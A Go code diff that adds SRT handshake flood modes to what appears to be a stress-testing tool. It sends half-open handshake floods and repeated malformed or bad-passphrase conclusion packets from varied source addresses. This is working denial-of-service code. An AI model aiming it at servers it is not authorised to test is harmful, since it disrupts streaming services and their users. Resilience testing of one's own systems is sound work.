@@ -62,6 +62,46 @@ func (a *attack) flood(ctx context.Context, to netip.AddrPort, packet func(i int
 	return sent
 }
 
+// halfOpen asks for a connection over SRT again and again, and never goes on.
+func halfOpen(ctx context.Context, a *attack) int {
+	return a.flood(ctx, a.target.SRT, func(i int) []byte { return hostile.SRTHello(uint32(i + 1)) }, nil)
+}
+
+// badCallers go on, from where they say they are, with what breaks the rules or has a wrong passphrase.
+func badCallers(ctx context.Context, a *attack) (sent int) {
+	for i := 0; ctx.Err() == nil; i++ {
+		conn, err := net.DialUDP("udp", a.from.udp(i), net.UDPAddrFromAddrPort(a.target.SRT))
+		if err != nil {
+			return sent
+		}
+		sent += badCaller(ctx, conn, i)
+		conn.Close()
+	}
+	return sent
+}
+
+// badCaller asks the second question 64 times.
+func badCaller(ctx context.Context, conn *net.UDPConn, i int) (sent int) {
+	b := make([]byte, 2048)
+	if _, err := conn.Write(hostile.SRTHello(uint32(i + 1))); err != nil {
+		return 0
+	}
+	conn.SetReadDeadline(time.Now().Add(quietTime))
+	n, err := conn.Read(b)
+	if err != nil {
+		return 1
+	}
+	cookie := hostile.SRTCookie(b[:n])
+	for k := range 64 {
+		if _, err := conn.Write(hostile.SRTConclusion(cookie, 64*i+k)); err != nil || ctx.Err() != nil {
+			break
+		}
+		sent++
+		time.Sleep(time.Millisecond)
+	}
+	return sent + 1
+}
+
 func pings(ctx context.Context, a *attack) int {
 	b := hostile.Ping(a.target.Channel)
 	return a.flood(ctx, a.target.Links, func(int) []byte { return b }, nil)
